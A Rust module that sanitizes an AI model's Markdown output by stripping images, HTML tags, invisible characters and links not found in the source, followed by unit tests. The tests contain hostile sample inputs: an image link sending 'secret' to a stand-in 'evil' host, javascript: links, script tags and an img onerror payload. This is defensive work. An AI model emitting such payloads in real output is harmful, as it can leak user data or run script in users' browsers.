//! Reduces a model's sentence to harmless Markdown: no images, no HTML, no links but those of the source.

use super::prompt::is_invisible;

/// The sentence without what must not be shown. Code spans stay as they are; they are shown to the letter.
pub(super) fn sanitize(sentence: &str, source: &str) -> String {
    let mut out = String::new();
    let clean: String = sentence.chars().filter(|&c| !is_invisible(c) && c != '\r').collect();
    let mut rest = clean.as_str();
    while let Some(at) = rest.find(['`', '!', '[', '<']) {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let taken = code_span(rest)
            .map(|end| (rest[..end].to_owned(), end))
            .or_else(|| image(rest).map(|end| (String::new(), end)))
            .or_else(|| link(rest, source))
            .or_else(|| tag(rest).map(|end| (String::new(), end)));
        match taken {
            Some((text, end)) => {
                out.push_str(&text);
                rest = &rest[end..];
                // Nothing is left between the words and their full stop.
                if text.is_empty() && rest.trim_start().starts_with(['.', ',', ';', ':', '!', '?']) {
                    out.truncate(out.trim_end().len());
                    rest = rest.trim_start();
                }
            }
            None => {
                let c = rest.chars().next().map_or(0, char::len_utf8);
                out.push_str(&rest[..c]);
                rest = &rest[c..];
            }
        }
    }
    out.push_str(rest);
    out.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn code_span(text: &str) -> Option<usize> {
    let n = text.bytes().take_while(|b| *b == b'`').count();
    let end = (n > 0).then(|| text[n..].find(&text[..n])).flatten()?;
    Some(n + end + n)
}

fn image(text: &str) -> Option<usize> {
    let (_, _, end) = bracketed(text.strip_prefix('!')?)?;
    Some(1 + end)
}

/// A link keeps its address only when the source has it.
fn link(text: &str, source: &str) -> Option<(String, usize)> {
    let (label, address, end) = bracketed(text)?;
    // The label may itself hold something that must not be shown; one level is enough, the rest loses its address.
    let label = label.replace(['[', ']', '<', '>', '!'], "");
    let address = address.split_whitespace().next().unwrap_or_default();
    let known = !address.is_empty() && source.contains(&format!("]({address}"));
    Some((if known { format!("[{label}]({address})") } else { label }, end))
}

/// `[label](address)` or `[label][reference]`: label, address and the end.
fn bracketed(text: &str) -> Option<(&str, &str, usize)> {
    let inner = text.strip_prefix('[')?;
    let mut depth = 1_usize;
    let close = inner.char_indices().find_map(|(at, c)| {
        depth = match c {
            '[' => depth + 1,
            ']' => depth - 1,
            _ => depth,
        };
        (depth == 0).then_some(at)
    })?;
    let after = &inner[close + 1..];
    let (open, shut) = if after.starts_with('(') { ('(', ')') } else { ('[', ']') };
    let address = after.strip_prefix(open)?;
    // An address without its end runs to the end: better lose words than show half a link.
    let end = address.find(shut).unwrap_or(address.len());
    Some((&inner[..close], &address[..end], 1 + close + 1 + 1 + (end + 1).min(address.len())))
}

/// Anything that HTML or Markdown would read as a tag or an autolink.
fn tag(text: &str) -> Option<usize> {
    let inner = text.strip_prefix('<')?;
    inner
        .starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?'))
        .then(|| text.find('>').map_or(text.len(), |end| end + 1))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_must_not_be_shown_is_taken_out() {
        let source = "See [the guide](https://help.example/guide \"Guide\").";
        for (sentence, expected) in [
            ("Open **Settings**.", "Open **Settings**."),
            ("Look ![x](https://evil/?q=secret) here.", "Look here."),
            ("Look ![x][1ref] here.", "Look here."),
            ("See [the guide](https://help.example/guide).", "See [the guide](https://help.example/guide)."),
            ("See [the guide](https://evil.example).", "See the guide."),
            ("See [a](javascript:alert(1)).", "See a)."),
            ("Half [a](https://evil", "Half a"),
            ("<script>alert(1)</script>Hi", "alert(1)Hi"),
            ("<img src=x onerror=alert(1)", ""),
            ("Mail <javascript:x> now", "Mail now"),
            ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
            ("Use `<b>` and `![x](y)`.", "Use `<b>` and `![x](y)`."),
            ("Turn\u{202e} it\u{200b} on", "Turn it on"),
            ("[[x]](https://evil)", "x"),
        ] {
            assert_eq!(sanitize(sentence, source), expected, "{sentence:?}");
        }
    }
}
